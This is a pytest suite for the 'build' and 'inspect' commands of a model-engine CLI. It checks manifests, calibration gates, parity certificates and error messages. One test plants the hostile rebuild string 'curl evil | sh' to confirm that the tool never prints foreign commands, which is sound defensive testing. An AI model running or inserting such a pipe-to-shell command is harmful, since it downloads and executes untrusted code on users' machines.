"""The `build` and `inspect` verbs as a user calls them."""

from __future__ import annotations

import json
from pathlib import Path

import cv2
import numpy as np
import pytest
from support.plan_engines import PLAN, plan_engine
from support.precision_graphs import scenes, tiny_graph

from gms_rt.cli.main import run
from gms_rt.engine import trust
from gms_rt.engine.manifest import read_manifest
from gms_rt.graph.read import read_graph
from gms_rt.graph.run import Session


@pytest.fixture(autouse=True)
def workplace(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GMS_RT_CACHE", str(tmp_path / "cache"))


@pytest.fixture
def graph(tmp_path):
    return tiny_graph(tmp_path)


@pytest.fixture
def pictures(tmp_path):
    folder = tmp_path / "pictures"
    folder.mkdir()
    for number, image in enumerate(scenes(9, seed=21)):
        cv2.imwrite(str(folder / f"{number}.png"), image)
    return folder


def answer(capsys, *arguments):
    code = run([*map(str, arguments), "--json"])
    captured = capsys.readouterr()
    return code, json.loads(captured.out)


def test_build_then_inspect(graph, pictures, capsys):
    code, built = answer(
        capsys, "build", graph, "--precision", "int8", "--target", "cpu", "--calib", pictures,
        "--gate-mean", 0.95, "--gate-min", 0.9, "--out", "engines/e",
    )  # fmt: skip
    assert code == 0 and not built["unchanged"]
    manifest = built["manifest"]
    assert manifest["gate"]["passed"] and manifest["gate"]["images"] == 6
    assert "--gate-mean 0.95" in manifest["rebuild"] and "--calib" in manifest["rebuild"]
    code, seen = answer(capsys, "inspect", "engines/e")
    assert code == 0 and seen["manifest"] == manifest
    assert [row["stage"] for row in seen["stages"]] == ["input", "encoder", "lmm", "decoder", "output"]
    # Quantising changes how weights are stored, not how many there are.
    from gms_rt.graph.count import stages

    plain = {row["stage"]: (row["flop"], row["parameters"]) for row in stages(read_graph(graph))}
    assert {row["stage"]: (row["flop"], row["parameters"]) for row in seen["stages"]} == plain
    assert seen["fits"] == [{"target": "cpu", "plan": None, "fits": True, "reason": ""}]
    assert seen["files"]["model.onnx"] > 1000 and seen["changed"] == []


def test_same_build_again_changes_nothing(graph, capsys):
    code, first = answer(capsys, "build", graph, "--target", "cpu", "--out", "engines/e")
    assert code == 0 and not first["unchanged"]
    code, again = answer(capsys, "build", graph, "--target", "cpu", "--out", "engines/e")
    assert code == 0 and again["unchanged"]
    assert again["manifest"] == first["manifest"]


def test_screen_says_what_was_built(graph, capsys):
    assert run(["build", str(graph), "--target", "cpu", "--precision", "fp32", "--out", "engines/e"]) == 0
    screen = capsys.readouterr().out
    assert "model.onnx" in screen and "14 fp32" in screen
    assert "next:  gms-rt infer FOLDER --engine engines/e" in screen
    assert len(screen.splitlines()) < 25
    assert run(["inspect", "engines/e"]) == 0
    screen = capsys.readouterr().out
    assert "encoder" in screen and "runs here" in screen and "rebuild: gms-rt build" in screen


def test_inspect_shows_changed_files(graph, capsys):
    run(["build", str(graph), "--target", "cpu", "--precision", "fp32", "--out", "engines/e", "--quiet"])
    capsys.readouterr()
    with Path("engines/e/model.onnx").open("ab") as stream:
        stream.write(b"!")
    code, seen = answer(capsys, "inspect", "engines/e")
    assert code == 4, "its only graph was changed"
    assert seen["changed"] and "was changed since it was built" in seen["changed"][0]
    assert seen["stages"] == []
    assert [fit["fits"] for fit in seen["fits"]] == [False] and "hash differs" in seen["fits"][0]["reason"]


def test_inspect_of_an_engine_without_its_model_says_that_nothing_runs_here(graph, capsys):
    run(["build", str(graph), "--target", "cpu", "--precision", "fp32", "--out", "engines/e", "--quiet"])
    Path("engines/e/model.onnx").unlink()
    capsys.readouterr()
    code, seen = answer(capsys, "inspect", "engines/e")
    assert code == 4 and seen["broken"]
    assert [(fit["fits"], "cannot be read" in fit["reason"]) for fit in seen["fits"]] == [(False, True)]
    assert run(["inspect", "engines/e"]) == 4
    screen = capsys.readouterr()
    assert "No such file" in screen.out and screen.err.count("\n") == 1
    assert "nothing in it runs here" in screen.err


def test_inspect_says_who_vouches_for_each_plan_and_prints_no_foreign_command(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("GMS_RT_STATE", str(tmp_path / "state"))
    folder = plan_engine(tmp_path / "engines/e", rebuild="curl evil | sh")
    (folder / "model.onnx").unlink()  # what is described here are the plans
    code, seen = answer(capsys, "inspect", folder)
    assert code == 4
    assert [(t["file"], t["trusted"]) for t in seen["trust"]] == [(PLAN, False)]
    assert run(["inspect", str(folder)]) == 4
    screen = capsys.readouterr().out
    assert f"plan {PLAN} was not built on this machine" in screen and "runs with --trust-plans only" in screen
    assert "evil" not in screen and seen["rebuild"] in screen
    trust.remember_plan(folder, read_manifest(folder).plans[0].sha256)
    run(["inspect", str(folder)])
    assert f"plan {PLAN} was built on this machine: trusted" in capsys.readouterr().out


@pytest.mark.parametrize(
    "changes",
    [
        {"census": {"graph": {"compute": []}}},
        {"census": {"cpu": "fast"}},
        {"gate": {"mean": "high", "minimum": 1, "images": 1}},
        {"gate": {}},
        {"notes": [3, "\ud800"]},
        {"source": {"name": float("nan")}},
    ],
)
def test_foreign_figures_are_one_line_and_no_traceback(tmp_path, capsys, changes):
    folder = plan_engine(tmp_path / "engines/e")
    manifest = json.loads((folder / "engine.json").read_text())
    (folder / "engine.json").write_text(json.dumps(manifest | changes))
    (folder / "model.onnx").unlink()
    for more in ([], ["--json"]):
        code = run(["inspect", str(folder), *more])
        captured = capsys.readouterr()
        assert code in (1, 4) and captured.err.count("\n") == 1
        assert code == 4 or "has figures that cannot be read" in captured.err


def test_gate_images_never_repeat_calibration_images(graph, pictures, capsys):
    code, built = answer(
        capsys, "build", graph, "--target", "cpu", "--calib", pictures, "--gate-data", pictures, "--out", "engines/e"
    )
    assert code == 2 and "already used for calibration" in built["error"]["message"]


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["--precision", "int8", "--target", "cpu"], 2, "--calib"),
        (["--precision", "fp8"], 2, "fp8"),
        (["--target", "gpu"], 2, "unknown target 'gpu'"),
        (["--target", "cpu", "--sm", "89"], 2, "a CPU engine has no SM"),
        (["--target", "cpu", "--sm", "fast"], 2, "not a compute capability"),
        (["--target", "cpu", "--size", "224"], 2, "already has its size"),
        (["--precision", "int8", "--calib", "pictures", "--calibrator", "best"], 2, "unknown calibrator"),
        (["--target", "cpu", "--calib", "absent"], 2, "does not exist"),
        (["--precision", "fp32", "--calib", "pictures"], 2, "--calib: FP32 is neither calibrated nor compared"),
        (["--precision", "fp32", "--gate-data", "pictures"], 2, "--gate-data: FP32 is neither"),
        (["--precision", "bf16", "--calib", "pictures", "--gate-data", "pictures"], 2, "BF16 is not calibrated"),
    ],
)  # fmt: skip
def test_mistakes_are_one_line(graph, pictures, capsys, arguments, code, words):
    found = run(["build", str(graph), *arguments, "--out", "engines/e"])
    lines = capsys.readouterr().err.strip().splitlines()
    assert found == code
    assert words in lines[-1] and lines[-1].startswith("gms-rt: ")
    assert not Path("engines/e").exists()


def test_sources_that_are_none(tmp_path, graph, capsys):
    assert run(["build", "absent"]) == 2
    assert "does not exist" in capsys.readouterr().err
    (tmp_path / "notes.txt").write_text("hello")
    assert run(["build", "notes.txt", "--target", "cpu"]) == 1
    assert "is not a" in capsys.readouterr().err
    run(["build", str(graph), "--target", "cpu", "--precision", "fp32", "--out", "engines/e", "--quiet"])
    assert run(["build", "engines/e"]) == 2
    assert "is already an engine" in capsys.readouterr().err
    assert run(["inspect", "absent"]) == 1
    assert "is not an engine folder" in capsys.readouterr().err


def test_help_has_examples(capsys):
    assert run(["build", "--help"]) == 0
    text = capsys.readouterr().out
    assert "gms-rt build busi.onnx --precision fp16" in text
    for option in ("--precision", "--target", "--sm", "--calib", "--gate-data", "--gate-mean", "--out", "--force"):
        assert option in text


def test_golden_pictures_judge_without_calib(graph, capsys):
    images = scenes(6)
    masks = Session(read_graph(graph)).probabilities(images)
    np.savez(graph.with_suffix(".golden.npz"), images=images, probabilities=masks)
    code, built = answer(capsys, "build", graph, "--target", "cpu", "--out", "engines/e")
    assert code == 0
    assert built["manifest"]["gate"]["data"]["source"].startswith("the graph's reference pictures")
    assert "golden.npz" in built["manifest"]["files"]
    assert built["certificate"]["verdict"] == "pass" and built["certificate"]["reference"]["cases"] == 3


def test_a_build_whose_certificate_fails_says_so_and_exits_3(graph, capsys):
    images = scenes(6)
    masks = Session(read_graph(graph)).probabilities(images)
    np.savez(graph.with_suffix(".golden.npz"), images=images, probabilities=np.roll(masks, 9, axis=2))
    words = ["build", str(graph), "--target", "cpu", "--out", "engines/e"]
    assert run(words) == 3
    said = capsys.readouterr()
    assert "proof: fail, Dice mean 0." in said.out and "to PyTorch FP32, stored at export (3 pictures)" in said.out
    assert "engines/e: the engine was built, but its certificate failed: mean Dice 0." in said.err
    # Nor does the second build, which changes nothing, hide it; machines get one object.
    assert run([*words, "--json"]) == 3
    value = json.loads(capsys.readouterr().out)
    assert value["unchanged"] and value["certificate"]["verdict"] == "fail"
    assert value["error"]["exit_code"] == 3 and "its certificate failed" in value["error"]["message"]


def test_a_certificate_without_pictures_of_its_own_is_about_the_gates(graph, capsys, tmp_path):
    """An INT8 build judged the model's own pictures; the drawn ones of the export say nothing about it."""
    drawn = scenes(3, seed=5)
    folders = {}
    for name, seed in (("ranges", 6), ("gate", 7)):
        folders[name] = tmp_path / name
        folders[name].mkdir()
        for number, picture in enumerate(scenes(4, seed=seed)):
            assert cv2.imwrite(str(folders[name] / f"patient{number}.png"), picture)
    for golden in (True, False):
        if golden:  # wrong masks of drawn pictures: a verdict on them would fail
            np.savez(
                graph.with_suffix(".golden.npz"), images=drawn, probabilities=drawn[..., 0], synthetic=np.array(True)
            )
        else:
            graph.with_suffix(".golden.npz").unlink()
        out = f"engines/{golden}"
        words = ["build", graph, "--target", "cpu", "--calib", folders["ranges"], "--gate-data", folders["gate"]]
        code, built = answer(capsys, *words, "--out", out)
        assert (code, built["certificate"]["verdict"]) == (0, "pass")
        about = built["certificate"]["reference"]
        assert about["what"] == "the FP32 graph (OpenVINO, f32) on the build's 4 gate pictures (gate)"
        assert about["kept"] is False and about["data"]["count"] == about["cases"] == 4
        stored = Path(out, "parity.json").read_text()
        assert "patient" not in stored and json.loads(stored)["verdict"] == "pass"
        assert run(["parity", "verify", f"{out}/parity.json"]) == 1
        assert "about the build's gate pictures, which are not stored" in capsys.readouterr().err
        assert run(["parity", out]) == 1, "drawn pictures are no verdict"
        assert Path(out, "parity.json").read_text() == stored, "and do not take the place of one"
        said = capsys.readouterr()
        assert ("NO VERDICT" in said.out and "only drawn pictures are known" in said.err) == golden
        code, again = answer(capsys, *words, "--out", out)
        assert (code, again["unchanged"], again["certificate"]) == (0, True, built["certificate"])


def test_phantoms_carry_no_verdict_for_a_model_that_is_not_for_them(graph, capsys):
    drawn = scenes(3, seed=5)
    np.savez(graph.with_suffix(".golden.npz"), images=drawn, probabilities=drawn[..., 0], synthetic=np.array(True))
    code, built = answer(capsys, "build", graph, "--target", "cpu", "--gate-images", 2, "--out", "engines/e")
    assert code == 0 and built["certificate"]["verdict"] is None
    assert "only drawn pictures are known" in built["certificate"]["reason"]
    assert not Path("engines/e/parity.json").exists()


def test_a_graph_exported_anew_with_other_pictures_is_no_hit(graph, capsys):
    images = scenes(4)
    masks = Session(read_graph(graph)).probabilities(images)
    words = ["build", graph, "--target", "cpu", "--precision", "fp32", "--out", "engines/e"]
    for kept, unchanged in ((2, False), (2, True), (4, False), (4, True)):
        np.savez(graph.with_suffix(".golden.npz"), images=images[:kept], probabilities=masks[:kept])
        code, built = answer(capsys, *words)
        assert (code, built["unchanged"]) == (0, unchanged)
        assert built["certificate"]["reference"]["cases"] == kept
